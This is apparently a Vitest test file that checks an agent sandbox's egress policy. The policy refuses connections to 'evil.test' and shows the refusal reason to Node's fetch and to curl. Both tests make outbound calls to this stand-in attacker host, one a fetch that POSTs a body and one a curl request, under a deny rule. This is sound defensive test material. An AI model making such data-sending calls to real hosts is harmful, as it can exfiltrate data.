/** Node's fetch, which hides a refused CONNECT from its user: with `refuse: inside` it shows the reason. */
import { afterAll, beforeAll, expect, it } from 'vitest';
import { describeWith } from '../helpers/programs.ts';
import { policy } from '../helpers/scene.ts';
import { makeWorld, type World } from '../helpers/world.ts';
import { makeSandbox, type Sandbox } from './sandbox.ts';

describeWith(['curl'], 'a refused call of Node’s fetch', () => {
  let world: World;
  let sandbox: Sandbox;

  beforeAll(async () => {
    const more = 'refuse: inside\n';
    world = await makeWorld({
      policies: { 'agents.yaml': policy(['deny: "evil.test", reason: Ask the platform team.'], { more }) },
    });
    sandbox = await makeSandbox(world);
  });
  afterAll(async () => {
    await world.stop();
  });

  it('has the problem in response.json()', async () => {
    const ran = await sandbox.run(`'${process.execPath}' --input-type=module -e '
      const answer = await fetch("https://evil.test/x", { method: "POST", body: "some body" });
      console.log(JSON.stringify({ status: answer.status, problem: await answer.json() }));
    '`);
    expect(ran.status, ran.stderr).toBe(0);
    expect(ran.stdout).toContain('Ask the platform team.');
    expect(JSON.parse(ran.stdout)).toMatchObject({
      status: 403,
      problem: {
        reason: 'rule_denied',
        host: 'evil.test:443',
      },
    });
  });

  it('has it in curl’s output, too', async () => {
    const ran = await sandbox.run('curl -sS https://evil.test/x');
    expect(ran.status, ran.stderr).toBe(0);
    expect(JSON.parse(ran.stdout)).toMatchObject({ reason: 'rule_denied' });
  });
});
